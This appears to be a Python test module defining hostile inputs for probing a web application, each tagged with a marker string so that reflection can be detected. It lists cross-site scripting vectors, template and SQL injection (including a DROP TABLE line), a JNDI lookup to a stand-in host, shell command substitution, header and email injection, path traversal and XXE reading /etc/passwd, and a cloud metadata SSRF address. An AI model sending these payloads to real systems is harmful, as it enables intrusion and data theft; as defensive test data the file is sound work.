"""Hostile inputs, each with a mark in it: where the mark turns up, the input did.

What looks like a tag or an attribute carries the mark in its name, so that a page which lets it
through has an element or an attribute of that name.
"""

MARK = "zq7x"

MARKUP = (
    f"<{MARK}>",
    f"</title></textarea></script><{MARK} {MARK}=1>",
    f'"><{MARK} x="',
    f"'><{MARK} x='",
    f'" {MARK}="1',
    f"' {MARK}='1",
    f"` {MARK}=`1",
    f"x {MARK}=1 y",
    f"<!--{MARK}--><{MARK}>",
    f"<![CDATA[<{MARK}>]]>",
    f"<svg><{MARK}/onload={MARK}>",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    f"&lt;{MARK}&gt;&#60;{MARK}&#62;&#x3c;{MARK}",
    f"\\x3c{MARK}\\u003c{MARK}",
    f"%3C{MARK}%3E%253C{MARK}%253E",
    f"\uff1c{MARK}\uff1e\u2039{MARK}\u203a",
    f"+ADw-{MARK}+AD4-",
    f"javascript:{MARK}()",
    f"java\tscript:{MARK}()",
    f"data:text/html,<{MARK}>",
    f"</style><style>{MARK}{{}}@import '//{MARK}.example'",
    f"{MARK}{{color:red}}/*",
    f"expression({MARK})",
    f"';{MARK}();//",
    f"*/{MARK}()/*",
    f"</script><script>{MARK}()</script>",
)
PROGRAMS = (
    f"{{{{{MARK}}}}}{{{{7*7}}}}{{% raw %}}",
    f"${{{MARK}}}#{{{MARK}}}<%= {MARK} %>",
    f"{{{{''.__class__.__mro__[1].__subclasses__()}}}}{MARK}",
    f"%({MARK})s%s%n%x%1000d",
    f"{{{MARK}.__init__.__globals__}}{{0}}",
    f"' OR 1=1 -- {MARK}",
    f"'; DROP TABLE draft; -- {MARK}",
    f'" UNION SELECT body FROM wrap -- {MARK}',  # noqa: S608 - an attack, run nowhere
    f"1);ATTACH DATABASE '/tmp/{MARK}' AS x;--",
    f"*)(uid=*))(|({MARK}=*",
    f'{{"$gt": "", "{MARK}": 1}}',
    f"${{jndi:ldap://{MARK}.example/a}}",
    f"() {{ :; }}; echo {MARK}",
    f"$(echo {MARK})`echo {MARK}`|{MARK};{MARK}&",
    f"=cmd|'/C {MARK}'!A0",
    f"@SUM({MARK})",
    f"\r\nSet-Cookie: {MARK}=1\r\n\r\n<{MARK}>",
    f"\nX-{MARK}: 1",
    f"%0d%0aX-{MARK}:%201",
    f"\u560a\u560dX-{MARK}: 1",
    f"a@b.example\nBcc: {MARK}@evil.example",
    f"../../../../etc/passwd\x00{MARK}",
    f"..%2f..%2f{MARK}",
    f"..\\..\\{MARK}",
    f"file:///etc/{MARK}",
    f"http://169.254.169.254/{MARK}",
    f"//{MARK}.example/",
    f"https://{MARK}.example/",
    f"/\\{MARK}.example",
    f"https:{MARK}.example",
    f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY {MARK} SYSTEM 'file:///etc/passwd'>]><x>&{MARK};",
    f'O:8:"{MARK}":0:{{}}',
    f"gASVDAAAAAAAAACMBHpxN3iUhpQu{MARK}",
    "a" * 40 + "!" + MARK,
    "(" * 200 + MARK + ")" * 200,
    "0" * 60 + MARK,
)
SIGNS = (
    f"\x00{MARK}\x00",
    f"\x1b[2J{MARK}\x07\x08\x7f",
    f"\u202e{MARK}\u202d\u2066\u2069",
    f"\u200b\u200d\ufeff{MARK}\u2060\u00ad",
    f"\ufffe\uffff\ufdd0{MARK}",
    f"\u2028{MARK}\u2029\x85\x0b\x0c",
    f"Z\u0335\u0321\u0489{chr(0x300) * 60}{MARK}",
    f"\U0001f469\U0001f3fd\u200d\U0001f9bd{MARK}",
    f"\u0130\u0131\u1e9e\ufb03{MARK}\u212a",
    f"\u0660\u0661\u0662{MARK}\u06f0\u0967",
    f"\U000e0041\U000e0042{MARK}\U000e007f",
    f"{MARK}" * 400,
    f"{MARK}\r\n" * 80,
)
RAW = (
    b"%00zq7x",
    b"%C0%BCzq7x%C0%BE",
    b"%E0%80%BCzq7x",
    b"%F0%80%80%BCzq7x",
    b"%ED%A0%80zq7x%ED%B0%80",
    b"%F4%90%80%80zq7x",
    b"%F8%88%80%80%80zq7x",
    b"%FF%FEzq7x",
    b"%C3zq7x",
    b"%zzzq7x%",
    b"%u003czq7x%u003e",
    b"zq7x%26a=b%3D+%2B",
    b"\xff\xfezq7x",
    b"\xc0\xafzq7x",
)
"""Percent encoding that stands for no text, and bytes that are none."""
NUMBERS = (
    *("-1", "0", "1e999", "NaN", "-0", "9" * 400, "1_0", "0x10", "\u0661", "\u00b2", "1.5", " 1 "),
    *("2147483648", "18446744073709551616", "true", "null", "[]", "{}", ""),
)
TEXTS = (*MARKUP, *PROGRAMS, *SIGNS)
"""What can stand in a field, a header or a cookie."""
EVERY = (*TEXTS, *NUMBERS)
HEADERS = ("Host", "Origin", "Referer", "Sec-Fetch-Site", "Accept-Language", "Accept", "Range")
HEADERS += ("Accept-Encoding", "If-None-Match", "If-Modified-Since", "If-Range", "Expect", "TE")
HEADERS += ("User-Agent", "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto", "Forwarded")
HEADERS += ("X-Original-URL", "X-Rewrite-URL", "X-HTTP-Method-Override", "Authorization", "Via")
HEADERS += (
    "Upgrade",
    "Connection",
    "Transfer-Encoding",
    "Content-Encoding",
    "Cookie",
    "X-Csrftoken",
)
COOKIES = ("plan", "apparaat", "weergave", "balie", "__Host-plan", "session", MARK)


def one_line(text: str) -> str:
    """A header as a server lets it through: on one line, and without NUL."""
    return text.translate(dict.fromkeys([0, 10, 13], " "))
